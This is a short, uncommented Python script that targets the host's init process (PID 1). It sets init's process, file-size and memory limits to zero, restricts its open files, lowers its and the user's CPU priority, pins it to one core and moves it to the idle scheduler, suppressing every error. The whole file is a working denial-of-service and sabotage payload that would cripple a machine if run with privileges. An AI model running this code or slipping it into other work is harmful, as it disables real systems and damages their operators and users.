import contextlib
import os
import resource

for kind in (resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, resource.RLIMIT_DATA):
    with contextlib.suppress(OSError, ValueError):
        resource.prlimit(1, kind, (0, 0))
with contextlib.suppress(OSError, ValueError):
    resource.prlimit(1, resource.RLIMIT_NOFILE, (5, 5))
for order in (
    lambda: os.setpriority(os.PRIO_PROCESS, 1, 19),
    lambda: os.setpriority(os.PRIO_USER, 0, 19),
    lambda: os.sched_setaffinity(1, {0}),
    lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0)),
):
    with contextlib.suppress(OSError):
        order()
